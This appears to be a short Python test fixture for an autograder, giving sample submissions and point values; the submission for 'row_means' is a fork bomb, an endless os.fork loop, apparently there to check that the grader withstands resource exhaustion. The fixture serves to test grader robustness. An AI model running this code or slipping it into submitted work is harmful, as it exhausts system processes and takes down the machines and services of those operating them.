"""A fork bomb."""

POINTS = [0, 3, 2]

ANSWERS = {
    "row_means": """
import os
def row_means(A):
    while True:
        try:
            os.fork()
        except OSError:
            pass
""",
    "mean_shares": "def mean_shares(A):\n    return shares(np.mean(A, axis=1))",
}
